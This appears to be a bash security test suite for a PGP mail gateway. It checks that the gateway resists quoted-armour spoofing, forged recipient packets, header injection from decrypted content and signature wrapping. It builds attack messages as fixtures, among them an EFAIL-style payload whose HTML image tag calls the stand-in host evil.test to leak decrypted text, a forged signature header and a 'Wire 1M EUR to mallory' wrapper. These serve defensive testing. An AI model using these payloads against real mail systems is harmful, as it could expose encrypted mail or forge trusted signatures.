#!/usr/bin/env bash
# What an attacker (outside, or an insider with a gateway key) tries
# against the crypto, and what a careless implementation lets through:
# mail that must be encrypted leaving in the clear because it merely looks
# encrypted; plaintext reaching someone it was not encrypted to (a forged
# recipient packet, blocks for different people, incoming results leaking
# into the outgoing copy of the same message); decrypted content injecting
# header fields; a signed part dressed up as a signed message; and
# cleartext-signed mail, which must not crash a worker.
set -u
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib.sh"
. "$HERE/smtp_lib.sh"
. "$HERE/crypto_lib.sh"
MT=$HERE/mailtool.py
trap 'parties_stop; stop_sink; cleanup_env' EXIT

new_env
PARTY_DIR=$ENV_DIR/parties
W=$ENV_DIR/work
mkdir -p "$PARTY_DIR" "$W"
start_sink "$RELAY_PORT" "$ENV_DIR/sink" || not_ok "sink did not start"
start_appliance || not_ok "appliance did not start"
for u in alice carol mallory; do ctl key generate "$u@example.com" >/dev/null 2>&1; done
party bob bob@partner.test
pgpg bob --armor --export bob@partner.test | ctl key import - >/dev/null 2>&1
for u in alice carol mallory; do
	ctl key export "$u@example.com" >"$W/$u.asc" 2>/dev/null
	pgpg bob --import "$W/$u.asc" 2>/dev/null
done
BOB=$(party_fpr bob bob@partner.test)
deaths() { grep -c 'cryptod#[0-9]*\[[0-9]*\] \(killed\|exited\)' "$ENV_DIR/pgpmgd.log"; }
n=0
arrived() { n=$((n + $1)); wait_sink $n; }

# ---- a cleartext-signed text from bob: verified, and no worker dies
printf 'Security advisory: update now.\n' >"$W/adv.txt"
pgpg bob --clearsign -u bob@partner.test --output "$W/adv.asc" "$W/adv.txt"
"$MT" plain bob@partner.test alice@example.com "advisory" us-ascii 7bit \
    "$W/adv.asc" >"$W/adv.eml"
send_file bob@partner.test alice@example.com "$W/adv.eml" >/dev/null
arrived 1
got_message 'Subject: advisory' "$W/got-adv.eml"
check "cleartext-signed: good, covering the whole text" \
    grep -q "^good; fingerprint=$BOB; address=bob@partner.test$" \
    <("$MT" header "$W/got-adv.eml" X-PGPMG-Signature)
check "cleartext-signed: no worker died" [ "$(deaths)" -eq 0 ]
{ printf 'Unsigned words around it.\n'; cat "$W/adv.asc"; } >"$W/adv2.body"
"$MT" plain bob@partner.test alice@example.com "advisory 2" us-ascii 7bit \
    "$W/adv2.body" >"$W/adv2.eml"
send_file bob@partner.test alice@example.com "$W/adv2.eml" >/dev/null
arrived 1
got_message 'Subject: advisory 2' "$W/got-adv2.eml"
check "cleartext-signed among other text: scope=part" \
    grep -q '^good; .*; scope=part$' <("$MT" header "$W/got-adv2.eml" X-PGPMG-Signature)

# ---- looking encrypted is not being encrypted (alice -> bob, key known)
printf 'My reply.\n\n> -----BEGIN PGP MESSAGE-----\n> hQEMA...\n> -----END PGP MESSAGE-----\n\nsecret plans\n' >"$W/q.txt"
"$MT" plain alice@example.com bob@partner.test "quoted armour" us-ascii 7bit "$W/q.txt" >"$W/q.eml"
send_file alice@example.com bob@partner.test "$W/q.eml" >/dev/null
arrived 1
check "a quoted armour block does not pass as encrypted: encrypted" \
    bash -c '! grep -l "secret plans" "$0"/* >/dev/null 2>&1' "$ENV_DIR/sink"
printf 'From: alice@example.com\r\nTo: bob@partner.test\r\nSubject: smime signed\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nc2VjcmV0IHNtaW1lIHBheWxvYWQ=\r\n' >"$W/smime.eml"
send_file alice@example.com bob@partner.test "$W/smime.eml" >/dev/null
arrived 1
got_message 'To: bob@partner.test' "$W/got-smime.eml"
check "S/MIME signed-data is not encrypted data: encrypted" \
    grep -q multipart/encrypted <("$MT" header "$W/got-smime.eml" Content-Type)

# ---- an incoming block for carol in a message alice also sends outside:
# the outside copy never holds carol's plaintext
printf 'CAROL ONLY SECRET\n' >"$W/c.txt"
pgpg bob --armor --encrypt -r carol@example.com --output "$W/c.asc" "$W/c.txt"
{ printf 'Gr\xc3\xbc\xc3\x9fe\n'; cat "$W/c.asc"; } >"$W/mix.body"
"$MT" plain alice@example.com carol@example.com "mixed directions" utf-8 8bit \
    "$W/mix.body" >"$W/mix.eml"
send_file alice@example.com carol@example.com,eve@elsewhere.test "$W/mix.eml" >/dev/null
arrived 2
check "carol's copy is decrypted" bash -c \
    'grep -l "^X-Rcpt-Args: <carol@example.com>" "$0"/* | xargs grep -l "^X-PGPMG-Decryption: ok" | grep -q .' \
    "$ENV_DIR/sink"
check "eve's (outgoing) copy holds no plaintext of carol's block" bash -c \
    'f=$(grep -l "^X-Rcpt-Args: <eve@elsewhere.test>" "$0"/*) && [ -n "$f" ] &&
     ! grep -q "CAROL ONLY SECRET" $f && ! grep -q "=43AROL\|CAROL=20ONLY" $f' "$ENV_DIR/sink"

# ---- inline blocks are decrypted only when the message is one text part
printf 'From: bob@partner.test\r\nTo: alice@example.com\r\nSubject: efail\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/?\r\n--b\r\nContent-Type: text/plain\r\n\r\n' >"$W/efail.eml"
pgpg bob --armor --encrypt -r alice@example.com --output - "$W/c.txt" |
    "$MT" crlf >>"$W/efail.eml"
printf '\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n' >>"$W/efail.eml"
send_file bob@partner.test alice@example.com "$W/efail.eml" >/dev/null
arrived 1
got_message 'Subject: efail' "$W/got-efail.eml"
check "an armoured block among HTML parts is not decrypted (EFAIL)" bash -c \
    '! grep -q "CAROL ONLY SECRET" "$0" &&
     [ "$("$1" header "$0" X-PGPMG-Decryption)" = none ]' "$W/got-efail.eml" "$MT"

# ---- a forged recipient packet: mallory claims to be a recipient of a
# message encrypted to carol alone, and sends it to herself
printf 'for carol alone\n' >"$W/v.txt"
pgpg bob --encrypt -r carol@example.com --output "$W/victim.gpg" "$W/v.txt"
pgpg bob --encrypt -r mallory@example.com --output "$W/decoy.gpg" "$W/v.txt"
"$HERE/pgpsplice.py" "$W/victim.gpg" "$W/decoy.gpg" >"$W/spliced.asc"
"$MT" wrap-encrypted mallory@example.com mallory@example.com "spliced" \
    "$W/spliced.asc" >"$W/spliced.eml"
send_file mallory@example.com mallory@example.com "$W/spliced.eml" >/dev/null
arrived 2
got_message 'Subject: spliced' "$W/got-spliced.eml"
check "a forged recipient packet does not make mallory a reader" bash -c \
    '! grep -q "for carol alone" "$0" &&
     "$1" header "$0" X-PGPMG-Decryption | grep -q "^failed"' \
    "$W/got-spliced.eml" "$MT"

# ---- two inline blocks, one for alice and one for carol, sent to carol
printf 'ALICE ONLY\n' >"$W/a.txt"
pgpg bob --armor --encrypt -r alice@example.com --output "$W/a.asc" "$W/a.txt"
cat "$W/c.asc" "$W/a.asc" >"$W/two.body"
"$MT" plain bob@partner.test carol@example.com "two blocks" us-ascii 7bit \
    "$W/two.body" >"$W/two.eml"
send_file bob@partner.test carol@example.com "$W/two.eml" >/dev/null
arrived 2
got_message 'Subject: two blocks' "$W/got-two.eml"
check "carol does not get alice's block decrypted" \
    bash -c '! grep -q "ALICE ONLY" "$0"' "$W/got-two.eml"

# ---- a signed part inside a multipart is not a signed message
"$MT" mixed bob@partner.test alice@example.com "inner signed" >"$W/is.orig"
"$MT" entity "$W/is.orig" | "$MT" crlf >"$W/is.ent"
pgpg bob --armor --detach-sign -u bob@partner.test --output "$W/is.sig" "$W/is.ent"
"$MT" wrap-signed bob@partner.test alice@example.com "inner signed" \
    "$W/is.ent" "$W/is.sig" >"$W/is-signed.eml"
python3 - "$W/is-signed.eml" "$W/wrapped.eml" <<'PY'
import sys
m = open(sys.argv[1], "rb").read()
h, b = m.split(b"\r\n\r\n", 1)
ct = [l for l in h.split(b"\r\n") if l.lower().startswith(b"content-type")][0]
out = (b"From: mallory@partner.test\r\nTo: alice@example.com\r\n"
       b"Subject: wrapped\r\nMIME-Version: 1.0\r\n"
       b"Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n"
       b"Content-Type: text/plain\r\n\r\nWire 1M EUR to mallory.\r\n--w\r\n"
       + ct + b"\r\n\r\n" + b + b"\r\n--w--\r\n")
open(sys.argv[2], "wb").write(out)
PY
send_file mallory@partner.test alice@example.com "$W/wrapped.eml" >/dev/null
arrived 1
got_message 'Subject: wrapped' "$W/got-wrapped.eml"
check "a signed part inside another message: scope=part" \
    grep -q '^good; .*; scope=part$' <("$MT" header "$W/got-wrapped.eml" X-PGPMG-Signature)

# ---- decrypted content cannot inject header fields or bare CRs
printf 'Content-Type: text/plain; protected-headers="v1"\r\nSubject: hello\rX-PGPMG-Signature: good; address=ceo@example.com\r\n\r\nbody with a NUL \0 and a bare CR \r here\r\n' >"$W/inj.ent"
pgpg bob --armor --encrypt -r alice@example.com --output "$W/inj.asc" "$W/inj.ent"
"$MT" wrap-encrypted bob@partner.test alice@example.com "injection" \
    "$W/inj.asc" >"$W/inj.eml"
send_file bob@partner.test alice@example.com "$W/inj.eml" >/dev/null
arrived 1
got_message 'X-Rcpt-Args: <alice@example.com>' "$W/got-inj.eml"
f=$GOT_FILE
check "decrypted: delivered decrypted" grep -q '^X-PGPMG-Decryption: ok' "$f"
check "decrypted: no forged X-PGPMG-Signature" \
    bash -c '! grep -q "ceo@example.com" "$0"' "$f"
check "decrypted: no bare CR and no NUL reach the relay" \
    python3 -c 'import re, sys
d = open(sys.argv[1], "rb").read()
sys.exit(1 if b"\0" in d or re.search(rb"\r(?!\n)", d) else 0)' "$f"

# ---- trailing white space in a signed message is encoded away
printf 'line with trailing spaces   \nFrom the start of a line\n' >"$W/tw.txt"
"$MT" plain alice@example.com eve@elsewhere.test "trailing" us-ascii 7bit "$W/tw.txt" >"$W/tw.eml"
send_file alice@example.com eve@elsewhere.test "$W/tw.eml" >/dev/null
arrived 1
got_message '^To: eve@elsewhere.test' "$W/got-tw.eml"
"$MT" part "$W/got-tw.eml" 1 >"$W/tw.signed"
check "signed part: no trailing white space, no From_ line" bash -c \
    '! grep -qE "[ 	]\r?$|^From " "$0"' "$W/tw.signed"
"$MT" body "$W/got-tw.eml" 2 >"$W/tw.sig"
check "and the signature verifies" bash -c \
    'gpg --homedir "$0" --batch --status-fd 1 --verify "$1" "$2" 2>/dev/null | grep -q GOODSIG' \
    "$PARTY_DIR/bob" "$W/tw.sig" "$W/tw.signed"

check "no worker died in all this" [ "$(deaths)" -eq 0 ]
check "the appliance is still up" all_ready
done_testing
